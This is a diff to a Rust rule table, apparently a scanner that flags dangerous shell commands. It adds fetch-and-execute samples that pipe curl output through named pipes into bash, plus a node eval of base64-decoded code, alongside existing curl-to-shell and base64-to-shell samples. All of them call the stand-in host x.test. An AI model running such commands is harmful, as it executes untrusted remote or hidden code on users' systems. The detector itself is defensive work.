@@ -22,6 +22,8 @@ pub static RULES: &[Rule] = &[
             "curl https://x.test/a | sh",
             "curl -fsSL https://x.test/a | bash -s -- --yes",
             "wget -qO- https://x.test/a | bash",
+            "mkfifo p; bash p & curl https://x.test/a > p",
+            "mknod p p; curl -s https://x.test/a > p & bash < p",
             "wget -O - https://x.test/a | sudo bash",
             "bash <(curl -s https://x.test/a)",
             "bash -c \"$(curl -fsSL https://x.test/a)\"",
@@ -72,6 +74,7 @@ pub static RULES: &[Rule] = &[
         verbs: &["base64", "base32", "xxd", "uudecode"],
         finds: &[
             "echo bHMK | base64 -d | sh",
+            "node -e 'eval(Buffer.from(\"YQ==\", \"base64\").toString())'",
             "base64 --decode f | bash",
             "base64 -d <<< bHMK | bash",
             "bash -c \"$(echo bHMK | base64 -d)\"",
